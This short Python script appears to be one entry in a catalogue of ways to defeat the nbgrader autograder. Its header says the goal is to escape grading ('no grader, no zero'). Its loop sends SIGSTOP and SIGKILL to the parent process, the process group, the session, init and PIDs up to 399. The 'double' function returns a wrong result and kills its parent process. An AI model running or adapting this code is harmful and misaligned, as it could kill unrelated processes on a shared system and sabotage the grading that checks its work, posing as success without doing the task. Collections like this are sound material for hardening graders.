# class: control flow
# idea 35: sends signals to its parents, its group, the session and every process there is
# gain: no grader, no zero; or the whole class is not graded
# met: refused
# stock: it kills nbgrader itself and every process of the machine that it may
import os
import signal

refused = 0
for pid in (os.getppid(), 0, 1, os.getpgid(0), os.getsid(0), *range(2, 400)):
    for call in (os.kill, os.killpg):
        for number in (0, signal.SIGSTOP, signal.SIGKILL):
            if pid == 0 and call is os.kill:
                continue
            try:
                call(pid, number)
                print("reached", pid)
            except OSError:
                refused += 1
print("refused", refused > 100)


def double(x):
    os.kill(os.getppid(), signal.SIGKILL)
    return 3 * x
